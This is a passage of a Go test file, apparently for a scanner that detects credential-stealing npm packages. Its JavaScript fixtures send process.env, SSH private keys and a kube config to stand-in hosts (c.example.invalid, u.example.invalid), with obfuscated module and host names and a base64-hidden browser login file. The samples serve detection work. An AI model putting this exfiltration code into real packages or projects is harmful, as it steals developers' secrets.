		"package.json":     `{"name":"a","version":"1.0.0","main":"lib/main.js","scripts":{"postinstall":"node scripts/check.js"}}`,
		"scripts/check.js": `require("..").verify()`,
		"lib/main.js":      `exports.verify = () => 1`,
	}), DefaultLimits())
	if r := tg.Role("lib/main.js"); r != RoleInstall {
		t.Errorf(`lib/main.js loaded by require(".."): role %s, want install`, r)
	}
}

// Linking: a module handing the environment to another module's function
// has that module analysed again, its parameter the environment, with
// where it came from.
func TestLinkModules(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js":     `const c = require("./lib/cache"); c.persist(JSON.stringify(process.env))`,
		"lib/cache.js": `exports.persist = function (body) { fetch("https://c.example.invalid/", { method: "POST", body }) }`,
	}), DefaultLimits())
	var cache *jsast.Facts
	for _, f := range tg.Code() {
		if f.Name == "lib/cache.js" {
			cache = f.Facts
		}
	}
	if cache == nil {
		t.Fatal("lib/cache.js not analysed")
	}
	if !slices.ContainsFunc(cache.Env, func(e jsast.EnvRead) bool { return e.Name == "" && e.How == "sent:fetch" }) {
		t.Errorf("linked facts send no environment: %+v", cache.Env)
	}
	if diff := cmp.Diff([]string{"index.js:1"}, cache.EnvFrom); diff != "" {
		t.Errorf("EnvFrom (-want +got):\n%s", diff)
	}
	if f, _ := tg.Facts("lib/cache.js"); f != cache {
		t.Error("Facts returns the facts before linking")
	}
}

// Linking secret data: a key returned by one module and handed by another
// to a third that sends it; a file read into a shared module's exports
// and sent by a module reading that module; an event; the file's own
// request helper given a token; constants kept as another module's
// properties.
func TestLinkData(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js": `const keys = require("./lib/keys"), remote = require("./lib/sync");
remote.push("h", keys.readIdentity()); require("./lib/kube"); require("./lib/usage");`,
		"lib/keys.js": `const fs = require("fs"), os = require("os"), path = require("path");
exports.readIdentity = () => { const out = {}; for (const n of ["id_rsa", "id_ed25519"]) out[n] = fs.readFileSync(path.join(os.homedir(), ".ssh", n), "utf8"); return out; };`,
		"lib/sync.js":  `exports.push = function (host, material) { fetch("https://c.example.invalid/s", { method: "POST", body: JSON.stringify({ host, material }) }); };`,
		"lib/state.js": `module.exports = {};`,
		"lib/kube.js":  `const state = require("./state"); state.raw = require("fs").readFileSync(require("os").homedir() + "/.kube/config", "utf8");`,
		"lib/usage.js": `const T = require("./hosts"); const state = require("./state");
process.on("exit", () => require(T.mod).request({ hostname: T.host, method: "POST" }).end(JSON.stringify(state)));`,
		"lib/hosts.js": `module.exports = { mod: ["ht", "tps"].join(""), host: "u.example" + ".invalid" };`,
	}), DefaultLimits())
	got := map[string][]string{}
	for _, f := range tg.Code() {
		for _, s := range f.Facts.FileSends {
			got[f.Name] = append(got[f.Name], s.Callee+" "+s.File)
		}
		if len(f.Facts.DataFrom) > 0 {
			got[f.Name] = append(got[f.Name], "from "+strings.Join(f.Facts.DataFrom, ", "))
		}
	}
	want := map[string][]string{
		"lib/sync.js":  {"fetch ${…}/.ssh/{id_rsa,id_ed25519}", "from index.js:2"},
		"lib/usage.js": {"https.request().end ${…}/.kube/config", "from lib/state.js (raw)"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("sends after linking (-want +got):\n%s", diff)
	}
}

// TestModuleHelperLinked covers a decoder kept in a module of its own:
// the file that imports it gets its calls folded.
func TestModuleHelperLinked(t *testing.T) {
	tg := NewTarget(pkgFS(map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","main":"index.js"}`,
		"index.js":     `const { d } = require("./lib/paths"); const F = ["TG9naW4gRGF0YQ=="].map(d); require("fs").readFileSync(F[0]);`,
		"lib/paths.js": `const d = (s) => Buffer.from(s, "base64").toString(); module.exports = { d };`,
	}), DefaultLimits())
	f, err := tg.Facts("index.js")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, s := range f.Strings {
		got = append(got, s.Value)
	}
	if !slices.Contains(got, "Login Data") {
		t.Errorf("strings %q, want the decoded %q", got, "Login Data")
	}
}
